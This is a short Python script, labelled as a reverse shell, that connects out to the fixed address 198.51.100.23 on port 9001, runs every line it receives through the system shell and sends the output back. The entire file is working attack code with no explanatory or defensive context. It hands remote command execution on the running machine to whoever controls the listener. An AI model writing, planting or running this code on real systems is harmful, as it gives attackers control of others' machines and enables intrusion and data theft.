# reverse-shell: a loop that runs each received line in the shell and sends back the output
import socket
import subprocess

s = socket.socket()
s.connect(("198.51.100.23", 9001))
while True:
    cmd = s.recv(4096).decode().strip()
    if not cmd or cmd == "exit":
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.sendall(out.stdout + out.stderr)
s.close()
